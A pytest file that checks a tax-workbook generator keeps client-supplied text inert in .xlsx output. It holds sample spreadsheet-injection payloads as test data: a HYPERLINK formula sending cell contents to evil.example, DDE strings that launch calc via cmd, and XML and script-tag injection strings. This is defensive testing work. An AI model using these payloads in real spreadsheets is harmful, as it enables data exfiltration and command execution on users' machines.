"""A client's text is text wherever it goes: never a formula, a name, a title, a code of the footer, or broken XML."""

from __future__ import annotations

import re
from concurrent.futures import ThreadPoolExecutor
from io import BytesIO
from pathlib import Path

import ironcalc
import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils.cell import column_index_from_string, coordinate_from_string

from engine import Client
from tests.spreadsheets import (
    cells,
    differences,
    lint,
    recalculated_by_libreoffice,
    validate_open_xml,
)
from tests.spreadsheets.workbook_file import WorkbookFile, tag
from tests.workbook_facts import Facts, Place
from workbook_templates.fill import workbook
from workbook_templates.xlsx.cell_xml import read_text

TEXTS = {
    "link": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "command": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "apostrophe": "'=1+1",
    "quotes": '"";="\'x',
    "tab": "a\tb\t=1+1",
    "lines": "first\nsecond\n=1+1",
    "returns": "first\r\nsecond\rthird",
    "longest": "W" * 200,
    "longest in two units": "\U0001f4b8" * 200,
    "right to left": "\u202e=1+1\u202c שלום \u200f",
    "family": "👩‍👩‍👧‍👦 Ünïcødé 漢字 é",
    "null": "a\x00b\x01\x0b\x1fc",
    "not characters": "a\ufffe\uffffb",
    "separators": "a\u2028b\u2029c\u0085d\x7fe",
    "no break": "\u00a0padded\u00a0",
    "xml": "</t></is></c></row><script>alert(1)</script>&amp;&#65;<![CDATA[x]]>",
    "escaped": "_x0041_ _x000D_ _x005F_ _X0041_ _x0041",
    "footer codes": '&P of &N &D&"Arial,Bold"&14 A&B && &G',
    "name": "f6251_2025_11",
    "address": "A1",
    "token": "@@7@@ 7310000001",
    "format": "{client} %s {0} %(x)s",
    "number": "1e308",
    "date": "1/2/2025",
    "error": "#REF!",
    "boolean": "TRUE",
    "wildcard": "*?~",
    "comparison": ">5",
    "title": "[x]:y/\\'6251 2025'!A1",
}
ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")  # in XML: shown as the replacement character
COLUMNS = ("employer", "grant_id", "doc_ref")
IDS = ("007", "1e5", "-1", "--", "1/2", "2024-01-02", ".5", "A1", "TRUE", "R1C1", "e1-E2_x0041_", "/", "x" * 200)
FILLED = re.compile(
    r"<v>[^<]*</v>|<v */>|<is>.*?</is>|<oddFooter>[^<]*</oddFooter>| t=\"\w+\"| ht=\"[\d.]+\"", re.DOTALL
)
REAL_PROGRAMS = ("null", "escaped", "longest in two units", "footer codes")


def client_of(name: str, *texts: str) -> Client:
    """One year, and an exercise for each text, which stands in all its columns of free text."""
    row: dict[str, object] = {"date_granted": "2022-01-02", "date_exercised": "2025-03-04", "shares": 10}
    row |= {"exercise_price": 1, "fmv_exercise": "11.01"}
    lots = [{**row, **dict.fromkeys(COLUMNS, text), "exercise_id": f"E{place}"} for place, text in enumerate(texts)]
    year = {"tax_year": 2025, "filing_status": "S", "wages": 400_000, "deduction": "standard"}
    return Client(name=name, exercises=lots, returns=[year])


@pytest.fixture(scope="module")
def harmless() -> bytes:
    """A client with peaceful words, as many as there are hostile ones."""
    return workbook(client_of("Jordan Sample", *(f"Northwind {number}" for number, _ in enumerate(TEXTS))))


@pytest.fixture(scope="module")
def hostile() -> bytes:
    """The same client with all hostile texts at once."""
    return workbook(client_of(TEXTS["link"], *TEXTS.values()))


@pytest.fixture(scope="module", params=TEXTS)
def name(request: pytest.FixtureRequest) -> str:
    """One hostile text, for the one place of the client's name."""
    return TEXTS[request.param]


@pytest.fixture(scope="module")
def named(name: str) -> bytes:
    """A small book of a client of that name."""
    return workbook(client_of(name))


@pytest.fixture(scope="module")
def peaceful() -> bytes:
    """The small book of a client with a peaceful name."""
    return workbook(client_of("Jordan Sample"))


def as_shown(text: str) -> str:
    """The text as a cell shows it: lines ended alike, what XML forbids replaced."""
    return ILLEGAL.sub("\ufffd", text).replace("\r\n", "\n").replace("\r", "\n")


def free_text(facts: Facts) -> list[tuple[Place, str]]:
    """Where the records' words stand, and what they are."""
    texts = [text.strip() for text in TEXTS.values()]
    return [(facts.record("exercises", row, column), text) for row, text in enumerate(texts) for column in COLUMNS]


def skeleton(data: bytes) -> dict[str, str]:
    """Every part of a file without what fills it: formulas, names, titles, rules, links, comments, properties."""
    return {name: FILLED.sub("", part.decode()) for name, part in WorkbookFile(data).parts.items()}


def read(data: bytes) -> Workbook:
    """The file as openpyxl reads it."""
    return load_workbook(BytesIO(data))


def test_text_of_records_comes_back_as_text(hostile: bytes) -> None:
    """Read by openpyxl: letter for letter, and no cell a formula, a number, a date or an error."""
    book = read(hostile)
    for (sheet, coordinate), text in free_text(Facts(hostile)):
        cell = book[sheet][coordinate]
        assert (cell.data_type, read_text(str(cell.value))) == ("s", as_shown(text))


def test_another_reader_finds_the_same_text_and_the_same_figures(hostile: bytes, tmp_path: Path) -> None:
    """Read by ironcalc, which evaluates what it takes for a formula."""
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(hostile)
    assert differences(path, "ironcalc") == []
    values = readings_of_ironcalc(path)
    for place, text in free_text(Facts(hostile)):
        assert read_text(str(values[place])) == as_shown(text)


def readings_of_ironcalc(path: Path) -> dict[tuple[str, str], object]:
    """Every cell of the sheet of exercises."""
    model = ironcalc.load_from_xlsx(str(path), "en", "UTC", "en")
    model.evaluate()
    titles = [sheet["name"] for sheet in model.get_worksheets_properties()]
    found: dict[tuple[str, str], object] = {}
    for (sheet, coordinate), _ in free_text(Facts(path)):
        letters, row = coordinate_from_string(coordinate)
        found[sheet, coordinate] = model.get_cell_value(titles.index(sheet), row, column_index_from_string(letters))
    return found


def test_nothing_but_cells_and_footers_holds_a_records_text(hostile: bytes, harmless: bytes) -> None:
    """Formulas, names, titles, rules, links, comments and properties are those of a harmless client, to the letter."""
    assert WorkbookFile(hostile).formulas == WorkbookFile(harmless).formulas
    assert skeleton(hostile) == skeleton(harmless)


def test_text_of_records_changes_no_figure(hostile: bytes, harmless: bytes) -> None:
    """Words differ only where the name of the client, of an employer or of a record is quoted."""
    shown, peaceful = cells(hostile), cells(harmless)
    different = {place for place in peaceful if shown[place] != peaceful[place]}
    quoted = {place for place in different if re.search("Jordan Sample|Northwind", str(peaceful[place]))}
    assert [f"{place}: {peaceful[place]}" for place in different - quoted] == []


def test_the_lint_finds_nothing_in_hostile_text(hostile: bytes) -> None:
    """Lengths are counted as Excel counts them."""
    assert lint(hostile) == []


def test_the_clients_name_comes_back_as_text(named: bytes, name: str) -> None:
    """In its own cell, and quoted by the headings."""
    facts = Facts(named)
    sheet, coordinate = facts.places["client_name"]
    cell = read(named)[sheet][coordinate]
    assert (cell.data_type, read_text(str(cell.value))) == ("s", as_shown(name))
    heading = cells(named)[sheet, "A2"]
    assert read_text(str(heading)).startswith(as_shown(name))


def test_nothing_but_cells_and_footers_holds_the_clients_name(named: bytes, peaceful: bytes) -> None:
    """Formulas, names, titles, rules, links, comments and properties are those of a harmless client, to the letter."""
    assert skeleton(named) == skeleton(peaceful)


def test_the_footer_prints_the_name_and_obeys_none_of_its_codes(named: bytes, peaceful: bytes, name: str) -> None:
    """`&` stands doubled; without the doubled ones the codes are those of any other client."""
    for footer, usual in zip(footers(named), footers(peaceful), strict=True):
        assert len(footer.encode("utf-16-le")) // 2 <= 255
        assert codes(footer) == codes(usual)
        assert as_shown(" ".join(name.split()))[:20] in read_text(footer).replace("&&", "&")


def footers(data: bytes) -> list[str]:
    """The footer of each sheet, as written."""
    return [footer.text or "" for root in WorkbookFile(data).sheets.values() for footer in root.iter(tag("oddFooter"))]


def codes(footer: str) -> list[str]:
    """What a program obeys in a footer."""
    return re.findall(r'&(?:"[^"]*"|\d+|.)', footer.replace("&&", ""), re.DOTALL)


def test_an_engine_recalculates_the_quoted_name_to_the_same(named: bytes, tmp_path: Path) -> None:
    """The headings quote the name by a formula: its cached words are what the formula gives."""
    path = tmp_path / "named.xlsx"
    path.write_bytes(named)
    assert differences(path, "ironcalc") == []


def test_ids_of_every_legal_letter_stay_text() -> None:
    """Ids that look like numbers, dates or formulas of a kind; others are refused when they come in."""
    client = client_of("", *IDS)
    lots = [{**lot.model_dump(), "exercise_id": each} for lot, each in zip(client.exercises, IDS, strict=True)]
    data = workbook(Client(exercises=lots, returns=client.returns))
    book, facts = read(data), Facts(data)
    for position, each in enumerate(IDS):
        sheet, coordinate = facts.record("exercises", position, "exercise_id")
        cell = book[sheet][coordinate]
        assert (cell.data_type, read_text(str(cell.value))) == ("s", each)


def test_a_typed_formula_stays_text_in_the_cells_of_free_text(harmless: bytes) -> None:
    """Their format is text, with Excel's hidden apostrophe, for the day someone edits them."""
    book, facts = read(harmless), Facts(harmless)
    for sheet, coordinate in [facts.places["client_name"], *(place for place, _ in free_text(facts))]:
        cell = book[sheet][coordinate]
        assert (cell.number_format, cell.quotePrefix) == ("@", True)


@pytest.mark.real_program
def test_real_programs_take_hostile_text(hostile: bytes, tmp_path: Path) -> None:
    """The validator finds nothing, and LibreOffice recalculates the same words and figures."""
    books = [hostile, *(workbook(client_of(TEXTS[name])) for name in REAL_PROGRAMS)]
    paths = [tmp_path / f"{number}.xlsx" for number, _ in enumerate(books)]
    for path, book in zip(paths, books, strict=True):
        path.write_bytes(book)
    with ThreadPoolExecutor(2) as pool:
        assert list(pool.map(validate_open_xml, paths)) == [[] for _ in paths]
    for path, values in zip(paths, recalculated_by_libreoffice(paths), strict=True):
        cached = {place: read_text(value) if isinstance(value, str) else value for place, value in cells(path).items()}
        assert {place: "" if value is None else value for place, value in cached.items()} == values
